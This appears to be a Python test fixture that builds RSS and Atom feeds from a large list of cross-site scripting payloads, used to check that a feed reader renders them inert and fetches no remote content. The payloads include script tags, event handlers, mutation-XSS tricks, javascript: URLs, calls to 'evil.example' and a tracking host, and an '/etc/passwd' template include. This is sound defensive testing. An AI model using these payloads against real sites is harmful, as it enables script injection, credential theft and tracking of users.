"""Scripts, handlers, frames, styles and trackers in text and HTML."""
# ruff: noqa: E501, UP031 - payloads stay as they are sent, on one line
# mypy: ignore-errors

from __future__ import annotations

from xml.sax.saxutils import escape

from tests.hostile.corpus.builders import CANARY_TEXT, INERT, ISO, atom, entry, feed, item, rss

G = "markup"
PAYLOADS = {
    "script": "<script>alert(1)</script>ok",
    "script-case": "<ScRiPt SrC=//evil.example/x.js></sCrIpT>ok",
    "script-nested": "<scr<script>ipt>alert(1)</scr</script>ipt>ok",
    "script-unclosed": "ok<script>alert(1)",
    "script-slash": "<script/x>alert(1)</script/x>ok",
    "script-newline": "<script\n\t>alert(1)</script\n>ok",
    "img-onerror": "<img src=x onerror=alert(1)>ok",
    "img-slash": '<img/src="x"/onerror=alert(1)>ok',
    "img-unquoted": "<img src=`x`onerror=alert(1)>ok",
    "img-unclosed": "ok<img src=x onerror=alert(1) ",
    "svg-onload": "<svg onload=alert(1)>ok</svg>",
    "svg-script": "<svg><script>alert&#40;1&#41;</script></svg>ok",
    "svg-animate": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=9>x</text></a></svg>ok",
    "svg-use": '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1) />#x"/></svg>ok',
    "svg-foreign": "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>ok",
    "math-href": '<math href="javascript:alert(1)">x</math>ok',
    "math-xlink": '<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">x</maction></math>ok',
    "mxss-math-style": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">ok',
    "mxss-svg-style": "<svg><style><img src=x onerror=alert(1)></style></svg>ok",
    "mxss-noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">ok',
    "mxss-form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form>ok",
    "mxss-template": "<template><img src=x onerror=alert(1)></template>ok",
    "mxss-select": '<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=alert(1)>">ok',
    "mxss-comment": "<!--><img src=x onerror=alert(1)>-->ok",
    "mxss-comment-bang": "<!--x--!><img src=x onerror=alert(1)>-->ok",
    "mxss-cdata": "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>ok",
    "mxss-xmp": '<xmp><p title="</xmp><img src=x onerror=alert(1)>">ok',
    "mxss-listing": "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>ok",
    "mxss-textarea": "<textarea></textarea><img src=x onerror=alert(1)>ok",
    "mxss-title": "<title><img src=x onerror=alert(1)></title>ok",
    "mxss-plaintext": "<plaintext><img src=x onerror=alert(1)>",
    "iframe": "<iframe src=https://evil.example/></iframe>ok",
    "iframe-srcdoc": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>ok',
    "object": "<object data=//evil.example/x.swf></object><embed src=//evil.example/y>ok",
    "applet": "<applet code=x></applet><frameset onload=alert(1)></frameset>ok",
    "form": "<form action=//evil.example/><input name=password type=password><button formaction=javascript:alert(1)>go</button></form>ok",
    "base-href": "<base href=//evil.example/><a href=x>ok</a>",
    "meta-refresh": '<meta http-equiv=refresh content="0;url=javascript:alert(1)">ok',
    "link-import": "<link rel=stylesheet href=//evil.example/x.css><link rel=import href=//evil.example>ok",
    "style-element": "<style>@import '//evil.example/x.css'; body{background:url(//evil.example/t)}</style>ok",
    "style-expression": '<p style="width:expression(alert(1));behavior:url(x)">ok</p>',
    "style-overlay": '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:#fff">ok</div>',
    "style-url": '<p style="background:url(http://evil.example/track)">ok</p>',
    "style-escape": '<p style="x:\\65xpression(alert(1));background:\\75rl(//evil.example)">ok</p>',
    "tracking-pixel": '<img src="http://tracker.example/pixel.gif?u=1" width=1 height=1>ok',
    "tracking-pixel-hidden": '<img src="http://tracker.example/p" style=display:none>ok',
    "srcset": '<img srcset="javascript:alert(1) 1x, http://tracker.example/2x 2x">ok',
    "video": "<video autoplay poster=javascript:alert(1) src=x onloadstart=alert(1)><source onerror=alert(1)></video>ok",
    "audio": "<audio src=x onerror=alert(1) autoplay>ok",
    "details": "<details open ontoggle=alert(1)>ok</details>",
    "marquee": "<marquee onstart=alert(1)>ok</marquee>",
    "event-tab": "<p on\tclick=alert(1) onmouseover\n=alert(1)>ok</p>",
    "event-unknown": "<p onpointerrawupdate=alert(1) onbeforetoggle=alert(1)>ok</p>",
    "autofocus": "<input autofocus onfocus=alert(1)>ok",
    "a-javascript": '<a href="javascript:alert(1)">ok</a>',
    "a-javascript-entity": '<a href="&#106;avascript&colon;alert&lpar;1&rpar;">ok</a>',
    "a-javascript-tab": '<a href="jav&#x09;ascript:alert(1)">ok</a>',
    "a-javascript-nul": '<a href="java\u0001script:alert(1)">ok</a>'.replace("\u0001", "&#1;"),
    "a-data": '<a href="data:text/html,<script>alert(1)</script>">ok</a>',
    "a-vbscript": '<a href="vbscript:msgbox(1)">ok</a>',
    "a-ping": "<a href=http://example.com ping=http://tracker.example/p target=_blank>ok</a>",
    "a-download": "<a href=http://example.com/x download=evil.exe>ok</a>",
    "xlink": '<a xlink:href="javascript:alert(1)">ok</a>',
    "dom-clobber": "<a id=location name=document></a><form id=cookie name=getElementById>ok</form>",
    "attr-breakout": "\"><img src=x onerror=alert(1)> ' onmouseover='alert(1) ok",
    "attr-duplicate": "<img src=x src=y onerror=alert(1) ONERROR=alert(2)>ok",
    "attr-null": "<im\u0000g src=x onerror=alert(1)>ok".replace("\u0000", "&#0;"),
    "attr-huge": '<p title="' + "x" * 200_000 + '" onclick=alert(1)>ok</p>',
    "attrs-10k": "<p " + " ".join("a%d=1" % i for i in range(10_000)) + " onclick=alert(1)>ok</p>",
    "tag-unknown": "<x-evil onclick=alert(1)>ok</x-evil><blink>b</blink>",
    "tag-namespace": "<o:p onclick=alert(1)>ok</o:p><html:script>alert(1)</html:script>",
    "conditional-comment": "<!--[if IE]><script>alert(1)</script><![endif]-->ok",
    "processing": "<?xml-stylesheet href=\"javascript:alert(1)\"?><!DOCTYPE x [<!ENTITY y 'z'>]>ok",
    "close-tags": "</p></div></td></table></body></html>ok<table><tr>",
    "table-foster": "<table><img src=x onerror=alert(1)><tr><td>ok",
    "portal": "<portal src=//evil.example></portal><fencedframe></fencedframe>ok",
    "speculation": '<script type=speculationrules>{"prefetch":[{"urls":["//evil.example"]}]}</script>ok',
    "slot-is": "<a is=x-evil slot=y part=z>ok</a>",
    "popover": "<div popover id=p onbeforetoggle=alert(1)>x</div><button popovertarget=p>ok</button>",
    "double-encoded": "&lt;script&gt;alert(1)&lt;/script&gt;ok",
    "triple-encoded": "&amp;lt;img src=x onerror=alert(1)&amp;gt;ok",
    "utf7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-ok",
    "fullwidth": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1eok",
    "template": "{{7*7}} ${7*7} {% include '/etc/passwd' %} <%= 7*7 %> #{7*7} ok",
}
for _name, _p in PAYLOADS.items():
    feed(
        "xss-" + _name,
        G,
        INERT,
        "items",
        rss(
            item(
                None,
                "http://example.com/x/" + _name,
                "xss-" + _name,
                raw_title=escape(_p[:2000]),
                raw_desc=escape(_p),
                extra="<content:encoded><![CDATA[%s]]></content:encoded><dc:creator>%s</dc:creator><category>%s</category>"
                % (_p.replace("]]>", "]]]]><![CDATA[>"), escape(_p[:500]), escape(_p[:500])),
            )
        ),
        items=1,
        inert=True,
        max_s=20,
    )
feed(
    "xss-template-literal",
    G,
    "text is kept as it is: no template engine runs on it ('{{7*7}}' stays, '49' never appears)",
    "items",
    rss(item("T {{7*7}} ${7*7} #{7*7}", desc="{{7*7}}")),
    items=1,
    titles=["T {{7*7}} ${7*7} #{7*7}"],
)
feed(
    "xss-atom-xhtml",
    G,
    INERT,
    "items",
    atom(
        entry(
            "xhtml",
            inner='<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">ok<script>alert(1)</script><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(2)</x:script>'
            '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(3)"><a xmlns:l="http://www.w3.org/1999/xlink" l:href="javascript:alert(4)"><text>x</text></a></svg></div></content>',
        )
    ),
    ext="atom",
    items=1,
    inert=True,
)
feed(
    "xss-atom-title-types",
    G,
    INERT + "; a text title that shows '<b>' keeps it as text or drops it",
    "items",
    atom(
        '<entry><id>tag:x,2025:h</id><title type="html">&lt;script&gt;alert(1)&lt;/script&gt;html</title><updated>%s</updated></entry>'
        % ISO,
        '<entry><id>tag:x,2025:x</id><title type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script>xhtml</div></title><updated>%s</updated></entry>'
        % ISO,
        '<entry><id>tag:x,2025:t</id><title type="text">&lt;script&gt;alert(1)&lt;/script&gt;text</title><updated>%s</updated></entry>'
        % ISO,
    ),
    ext="atom",
    items=3,
    inert=True,
)
feed(
    "xss-atom-base64",
    G,
    "base64 content of another type is not decoded into markup",
    "items",
    atom(
        entry(
            "b64",
            inner='<content type="text/html" mode="base64">PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==</content>',
        )
    ),
    ext="atom",
    items=1,
    inert=True,
)
feed(
    "xss-atom-svg-content",
    G,
    INERT,
    "items",
    atom(
        entry(
            "svg",
            inner='<content type="image/svg+xml"><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/></content>',
        )
    ),
    ext="atom",
    items=1,
    inert=True,
)
feed(
    "xss-atom-content-src",
    G,
    "out-of-line content is not fetched",
    "items",
    atom(entry("src", inner='<content type="text/html" src="@CANARY@/xss-atom-content-src"/>')),
    ext="atom",
    items=1,
    not_requested=["xss-atom-content-src"],
    forbid=[CANARY_TEXT],
)
feed(
    "xss-remote-images",
    G,
    "no image, enclosure or icon of an item is fetched while polling",
    "items",
    rss(
        item(
            "img",
            desc='<img src="@CANARY@/xss-remote-images">',
            extra='<enclosure url="@CANARY@/xss-remote-images" length="1" type="image/png"/><media:thumbnail url="@CANARY@/xss-remote-images"/>',
        )
    ),
    items=1,
    not_requested=["xss-remote-images"],
)
feed(
    "xss-media-html",
    G,
    INERT,
    "items",
    rss(
        item(
            "m",
            extra='<media:group><media:title type="html">&lt;script&gt;alert(1)&lt;/script&gt;</media:title><media:description type="html">&lt;img src=x onerror=alert(1)&gt;</media:description>'
            '<media:player url="javascript:alert(1)"/></media:group>',
        )
    ),
    items=1,
    inert=True,
    forbid=["javascript:"],
)
